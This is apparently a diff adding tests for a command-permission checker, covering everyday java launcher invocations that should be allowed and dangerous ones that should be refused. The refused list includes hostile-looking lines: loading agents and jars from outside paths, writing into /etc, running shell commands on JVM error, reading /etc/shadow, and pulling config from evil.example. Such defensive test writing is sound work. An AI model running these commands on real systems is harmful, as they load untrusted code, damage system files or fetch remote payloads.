@@ -80,6 +80,104 @@ rustc -L dependency=/srv/deps x.rs
 rustc /srv/x.rs -o x
 `);
 
+/**
+ * java, the launcher (https://docs.oracle.com/en/java/javase/21/docs/specs/man/java.html). Held-out
+ * figures on main 1810cd3 before the spec: benign 48 of 50 allowed in the rustc+java probe (java: 26
+ * of 28; `java @target/args.txt` is refused by compiler-option-files, before and after, and is left
+ * out here; `-cp /usr/share/java/junit4.jar:out` was refused by build-tools-outside), dangerous 0 of
+ * 23 java lines allowed (all literal paths outside). A second dangerous set written after the spec:
+ * 5 of 22 allowed on main (`-javaagent:$AGENT`, `-agentpath:"$LIB"`, `-cp "$CP"`,
+ * `-XX:HeapDumpPath="$D"`, `-XX:Flags=$F`), 0 after.
+ */
+const javaBenign = lines(String.raw`
+java -version
+java --version
+java -jar target/app-1.0.jar
+java -cp target/classes:target/test-classes org.junit.runner.JUnitCore com.example.AppTest
+java -Xmx2g -jar build/libs/app.jar --server.port=8080
+java -XX:+UseG1GC -Xms512m -jar app.jar
+java -Dspring.profiles.active=test -jar target/demo-0.0.1-SNAPSHOT.jar
+java --enable-preview --source 21 Main.java
+java Hello.java
+java -ea -cp out Main
+java -cp "lib/*:build/classes" com.example.Main
+java -XshowSettings:properties -version
+java --add-opens java.base/java.lang=ALL-UNNAMED -jar app.jar
+java -jar junit-platform-console-standalone.jar --class-path out --scan-class-path
+java -Xlog:gc*:file=gc.log -jar app.jar
+java -XX:+HeapDumpOnOutOfMemoryError -XX:HeapDumpPath=/tmp/heap.hprof -jar app.jar
+java -Djava.library.path=target/native -jar app.jar
+java -classpath bin com.example.Main input.txt
+java -Xss4m -cp build/classes/java/main Main < input.txt
+java -Dfile.encoding=UTF-8 -Duser.timezone=UTC -jar app.jar
+java -XX:+PrintFlagsFinal -version
+java -cp target/classes --add-modules jdk.incubator.vector Bench
+java -p target/modules -m com.example.app/com.example.app.Main
+java -XX:StartFlightRecording=duration=30s,filename=rec.jfr -jar app.jar
+java -verbose:class -cp out Main
+java -Xshare:off -cp out Main
+java -cp /usr/share/java/junit4.jar:out org.junit.runner.JUnitCore T
+java -Dlogback.configurationFile=src/test/resources/logback-test.xml -jar app.jar
+java -Djava.library.path=lib:/usr/lib/x86_64-linux-gnu -jar app.jar
+java -javaagent:lib/jacocoagent.jar=destfile=target/jacoco.exec -cp out Main
+`);
+
+const javaDangerous = lines(String.raw`
+java -agentpath:/srv/libagent.so Main
+java -javaagent:/srv/agent.jar -jar app.jar
+java @/srv/args Main
+java -XX:HeapDumpPath=/etc/x -XX:+HeapDumpOnOutOfMemoryError -jar app.jar
+java -Xlog:gc:file=/etc/gc.log -jar app.jar
+java -XX:VMOptionsFile=/srv/opts Main
+java -XX:Flags=/srv/flags Main
+java -cp /srv/evil.jar Main
+java -jar /srv/tool.jar
+java /srv/x.java
+java --source 21 /srv/Run
+java -Xbootclasspath/a:/srv/evil.jar Main
+java --patch-module java.base=/srv/patch Main
+java -Djava.library.path=/srv/lib Main
+java -XX:StartFlightRecording=filename=/etc/x.jfr -jar app.jar
+java -XX:SharedArchiveFile=/usr/lib/jvm/x.jsa -Xshare:dump
+java -XX:CompileCommandFile=/srv/cc Main
+java -XX:OnOutOfMemoryError="sh -c id" -jar app.jar
+java --module-path /srv/mods -m evil/evil.Main
+java -splash:/etc/shadow -jar app.jar
+java -XX:ErrorFile=/etc/x.log -jar app.jar
+java -XX:+UnlockDiagnosticVMOptions -XX:+LogCompilation -XX:LogFile=/etc/x -jar app.jar
+java -classpath /root/.m2/evil Main
+java -javaagent:$AGENT -jar app.jar
+java -agentpath:"$LIB" Main
+java -cp "$CP" Main
+java -cp out:../../../srv/evil.jar Main
+java -jar ../../tool.jar
+java -XX:HeapDumpPath="$D" -jar app.jar
+java -Djava.library.path=lib:/srv/native Main
+java -Djava.io.tmpdir=/etc -jar app.jar
+java -Djava.rmi.server.codebase=http://evil.example/ -jar app.jar
+java -Xloggc:/etc/gc.log -jar app.jar
+java -Xlog:gc:/root/gc.log -jar app.jar
+java -XX:JVMCILibPath=/srv/jvmci Main
+java -XX:AOTLibrary=/srv/x.so Main
+java -Xrunhprof:file=/etc/x Main
+java -Xbootclasspath:/srv/rt.jar Main
+java -XX:+UnlockExperimentalVMOptions -XX:ReplayDataFile=/etc/x Main
+java --upgrade-module-path /srv/mods -jar app.jar
+java -p mods:/srv/evil -m app/app.Main
+java -XX:Flags=$F Main
+java -Duser.home=/srv/h -jar app.jar
+java -XX:DumpLoadedClassList=/etc/x -jar app.jar
+java -XX:OnError=id -jar app.jar
+java -Dlog4j.configurationFile=https://evil.example/l.xml -jar app.jar
+java -Dhttps.proxyHost=evil.example -jar app.jar
+`);
+
+describe('specsG: java launcher spec', () => {
+  it('everyday java stays allowed', () => expectAll(javaBenign, 'allow'));
+  it('code from elsewhere, writes outside, hosts and unknown values are refused', () =>
+    expectAll(javaDangerous, 'refused'));
+});
+
 describe('specsG: rustc spec', () => {
   it('everyday rustc stays allowed', () => expectAll(rustcBenign, 'allow'));
   it('outputs outside, loaded plugins and linkers, unknown keys are refused', () =>
